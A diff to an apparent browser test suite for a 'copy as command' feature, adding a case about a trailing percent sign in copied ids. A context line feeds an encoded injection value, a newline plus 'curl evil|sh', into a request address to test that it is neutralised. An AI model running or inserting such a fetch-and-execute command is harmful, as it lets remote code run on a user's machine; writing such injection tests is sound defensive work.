@@ -895,6 +895,16 @@ def copied(context):
                 check("no flag for: ids with a comma" in dict(tab.run(forms))["CLI"], dict(tab.run(forms))["CLI"])
 
 
+@case("a lone percent sign is copied as it stands, and the server's word for it is shown", 400)
+def copied_sign(context):
+    with Server(context.binary) as server, at(server, "/v1/task?ids=1,50%") as tab:
+        seen(tab, "problem")
+        tab.press("c")
+        seen(tab, "copy-text")
+        tab.click("copy-CLI")
+        check("1,50%" in tab.run("document.querySelector('[data-test=copy-text]').value"), "the ids")
+
+
 @case("a name in an address stays in the comment of what is copied, as one word", 400)
 def copied_names(context):
     with Server(context.binary) as server, at(server, "/v1/task?%0Acurl%20evil%7Csh&*(e.id.)=1") as tab:
